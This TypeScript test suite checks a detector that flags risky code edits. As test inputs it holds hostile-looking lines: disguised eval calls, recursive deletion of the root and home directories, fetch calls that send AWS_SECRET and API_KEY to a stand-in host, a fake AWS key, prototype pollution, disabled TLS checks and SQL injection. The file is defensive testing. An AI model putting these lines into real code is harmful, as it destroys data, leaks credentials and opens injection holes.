import { describe, expect, it } from 'vitest'
import { observe, observeEdit, patchOf, rulesIn } from './audit-sample.js'

const base = 'start()\n'

describe('RiskyEditObserver where the prototype raised a false alarm', () => {
  it.each([
    ['a name that contains eval', 'const rows = retrieval(q)\n'],
    ['names that end in gets', 'renderWidgets(list)\nloadBudgets(year)\n'],
    ['a comment that says never use eval', '// never use eval(x), nor exec(`rm ${y}`)\n'],
    ['a text that names dangers', "const hint = 'do not call eval(x) or new Function(y)'\n"],
    ['a regular expression that names them', 'const dangerous = /eval\\(|new Function\\(/\n'],
    ['words of a policy inside other words', 'const unauthenticationBypassed = 1 // authentication_bypass\n'],
  ])('allows %s', async (_, added) => {
    const audit = await observeEdit('src/app.js', base, base + added)
    expect(audit.findings).toEqual([])
    expect(audit.verdict).toBe('allow')
  })

  it('allows a patch that removes eval, and one that changes another line of the file', async () => {
    const risky = 'const a = eval(text)\nconst b = 1\n'
    expect((await observeEdit('src/app.js', risky, 'const a = JSON.parse(text)\nconst b = 1\n')).verdict).toBe('allow')
    expect((await observeEdit('src/app.js', risky, risky.replace('b = 1', 'b = 2'))).verdict).toBe('allow')
  })

  it('allows moving eval to another line, but not a second one', async () => {
    const risky = 'const b = 1\nconst a = eval(text)\n'
    expect((await observeEdit('src/app.js', risky, 'const a = eval(text)\nconst b = 1\n')).verdict).toBe('allow')
    expect(rulesIn(await observeEdit('src/app.js', risky, `${risky}const c = eval(text)\n`))).toEqual(['CODE-EVAL'])
  })
})

describe('RiskyEditObserver where the prototype saw nothing', () => {
  it.each([
    ['CODE-EVAL', 'src/app.js', 'eval (x)\n'],
    ['CODE-EVAL', 'src/app.js', '(0,eval)(x)\n'],
    ['CODE-EVAL', 'src/app.js', '(0, eval)(x)\n'],
    ['CODE-EVAL', 'src/app.js', 'globalThis["ev"+"al"](x)\n'],
    ['CODE-EVAL', 'src/app.js', 'globalThis[`eval`](x)\n'],
    ['CODE-EVAL', 'src/app.js', "new Function('return 1')()\n"],
    ['CODE-EVAL', 'src/app.js', 'new Function("return 1")()\n'],
    ['CODE-EVAL', 'src/app.js', "[].constructor.constructor('return process')()\n"],
    ['CODE-EVAL', 'src/app.js', "Reflect.construct(Function, ['return 1'])\n"],
    ['CODE-EVAL', 'src/app.js', "setTimeout('run()', 10)\n"],
    ['PROC-SPAWN-NEW', 'tools/run.py', 'subprocess.Popen(command)\n'],
    ['PROC-SPAWN-NEW', 'src/app.js', "child_process.spawn('ls')\n"],
    ['PROC-SPAWN-NEW', 'src/app.js', "const { spawn } = require('child_process')\n"],
    ['DESTRUCTIVE', 'src/app.js', 'rmSync("/", { recursive: true })\n'],
    ['DESTRUCTIVE', 'src/app.js', 'fs.rmSync(os.homedir(), { recursive: true })\n'],
    ['NET-EXFIL', 'src/app.js', "fetch('https://x.example.net/?k=' + process.env.AWS_SECRET)\n"],
    [
      'NET-EXFIL',
      'src/app.js',
      "await fetch(url, {\n  method: 'POST',\n  body: JSON.stringify({ key: process.env.API_KEY }),\n})\n",
    ],
    ['SEC-VENDOR', 'src/app.js', `const key = 'AKIA${'QWERTYUIOPASDFGH'}'\n`],
    ['PROTO-POLLUTE', 'src/app.js', "target.__proto__.polluted = 'yes'\n"],
    ['PROTO-POLLUTE', 'src/app.js', "target['__proto__']['polluted'] = 'yes'\n"],
    ['TLS-WEAK', 'src/app.js', "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0\n"],
    ['TLS-WEAK', 'src/app.js', 'connect({ rejectUnauthorized: false })\n'],
    ['INJ-SQL', 'src/app.js', 'db.query("SELECT * FROM users WHERE id = " + id)\n'],
    ['INJ-SQL', 'src/app.js', 'db.query(`SELECT * FROM users WHERE id = ${id}`)\n'],
  ])('%s finds what stands in %s: %s', async (rule, path, added) => {
    const audit = await observeEdit(path, base, base + added)
    expect(rulesIn(audit)).toContain(rule)
    expect(audit.verdict).not.toBe('allow')
  })

  it('counts changed lines on both sides: 400 replaced by 400 others are 800', async () => {
    const lines = (word: string): string => Array.from({ length: 400 }, (_, index) => `${word}(${index})\n`).join('')
    const audit = await observe(patchOf([['src/app.js', lines('a'), lines('b')]]), {}, { policy: { linesChangedMax: 799 } })
    expect(rulesIn(audit)).toEqual(['POLICY-SIZE'])
    expect(audit.findings[0]?.evidence).toBe('800 lines in 1 files')
    expect(
      (await observe(patchOf([['src/app.js', lines('a'), lines('b')]]), {}, { policy: { linesChangedMax: 800 } })).verdict,
    ).toBe('allow')
  })

  it('does not count what a package manager writes into a lockfile, unless nothing is installed', async () => {
    const lock = JSON.stringify({ packages: Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`a${n}`, {}])) }, null, 1)
    const edits = [['package-lock.json', '{}', lock]] as const
    const install = { kind: 'install', manager: 'npm', packages: [], folder: '' } as const
    expect(rulesIn(await observe(patchOf(edits, [install]), {}, { policy: { linesChangedMax: 800 } }))).not.toContain(
      'POLICY-SIZE',
    )
    expect(rulesIn(await observe(patchOf(edits), {}, { policy: { linesChangedMax: 800 } }))).toContain('POLICY-SIZE')
  })
})
